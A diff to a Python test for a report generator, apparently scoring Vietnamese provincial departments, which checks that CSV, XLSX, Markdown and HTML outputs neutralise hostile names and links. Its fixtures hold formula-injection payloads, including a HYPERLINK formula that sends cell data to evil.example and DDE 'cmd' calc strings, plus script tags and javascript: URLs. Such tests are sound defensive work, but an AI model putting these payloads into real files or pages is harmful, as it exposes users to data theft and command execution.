@@ -22,6 +22,7 @@ from results import store
 from results.spreadsheet import FORMULA_STARTS, neutralise
 from scoring import load_methodology, score_run
 from scoring.reports import write_reports
+from scoring.tables import slug
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Sở A")', "@SUM(1+1)*cmd|' /C calc'!A0", "+84 Sở B",
            "-2+3+cmd|' /C calc'!A0", "\tSở C", "\rSở D", "<script>alert('md')</script> [x](javascript:alert(1))"]
@@ -31,6 +32,7 @@ def hostile_evidence():
     targets = [b.target(f"t{i}", name=name, group="=Nhóm" if i % 2 else "Sở, ban, ngành tỉnh")
                for i, name in enumerate(HOSTILE)]
     targets.append(b.target("so/tc", name="Sở Tài chính")), targets.append(b.target("so-tc", name="Sở TC khác"))
+    targets[0]["services_portal_url"] = "javascript:alert(1)"   # a link a portal could hand over
     observations = [o for t in targets for o in b.perfect_observations(t["id"])]
     services = [{**b.svc("t0", 1), "name": "=cmd|' /C calc'!A0", "code": "@1.001"}]
     return b.evidence(targets, observations, services)
@@ -66,6 +68,8 @@ def test_ranking_csv_xlsx_and_markdown(tmp_path):
     markdown = (tmp_path / "rankings.md").read_text(encoding="utf-8")
     assert "<script" not in markdown and "&lt;script&gt;" in markdown
     assert "[x](javascript" not in markdown and "\\[x\\](javascript" in markdown   # text, not a link
+    page = (tmp_path / "targets" / f"{slug('t0')}.html").read_text(encoding="utf-8")
+    assert 'href="javascript' not in page and 'href="#"' in page   # a javascript: URL is no link
     pages = sorted(p.name for p in written if p.parent.name == "targets")
     assert len(pages) == len(ev["targets"]) == len(set(pages))   # so/tc and so-tc: two files
 
